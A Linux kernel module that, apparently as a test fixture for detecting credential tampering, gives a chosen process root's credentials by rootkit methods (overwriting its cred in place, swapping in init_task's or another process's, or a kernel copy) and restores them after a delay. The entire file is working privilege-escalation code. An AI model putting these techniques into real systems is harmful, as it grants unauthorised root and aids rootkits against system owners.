// SPDX-License-Identifier: GPL-2.0-only
/*
 * Gives a process root's credentials, as rootkits do for who knows the word: those of the kernel itself,
 * those of another process without counting, a copy of the kernel's, or its own, overwritten where they lie. After a while it has its own again.
 */
#include <linux/cred.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/workqueue.h>

#include "attack.h"

static char *what = "place";
module_param(what, charp, 0400);
static int pid;
module_param(pid, int, 0400);
static unsigned int hold = 900;
module_param(hold, uint, 0400);
MODULE_PARM_DESC(hold, "milliseconds until it is over");

static struct task_struct *victim;
static const struct cred *own, *copy;
static struct cred saved;

static void give(const struct cred *cred)
{
	rcu_assign_pointer(victim->real_cred, cred);
	rcu_assign_pointer(victim->cred, cred);
}

static void overwrite(struct cred *cred)
{
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->cap_permitted = cred->cap_effective = rcu_access_pointer(init_task.real_cred)->cap_permitted;
}

static int take_over(void)
{
	own = rcu_access_pointer(victim->real_cred);
	saved = *own;
	if (!strcmp(what, "place")) {
		overwrite((struct cred *)own);
	} else if (!strcmp(what, "init")) {
		give(rcu_access_pointer(init_task.real_cred));
	} else if (!strcmp(what, "steal")) {
		give(rcu_access_pointer(current->real_cred));
	} else {
		copy = prepare_kernel_cred(&init_task);
		if (!copy)
			return -ENOMEM;
		give(copy);
	}
	return 0;
}

static void give_back(struct work_struct *work)
{
	if (!strcmp(what, "place"))
		*(struct cred *)own = saved;
	else
		give(own);
}
static DECLARE_DELAYED_WORK(giving_back, give_back);

static int __init attack_init(void)
{
	struct pid *of = find_get_pid(pid);
	int error;

	victim = get_pid_task(of, PIDTYPE_PID);
	put_pid(of);
	if (!victim)
		return -ESRCH;
	error = take_over();
	if (error)
		put_task_struct(victim);
	else
		schedule_delayed_work(&giving_back, msecs_to_jiffies(hold));
	return error;
}

static void __exit attack_exit(void)
{
	flush_delayed_work(&giving_back);
	if (copy)
		put_cred(copy);
	put_task_struct(victim);
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Attack: root's credentials for a process");
MODULE_LICENSE("GPL");
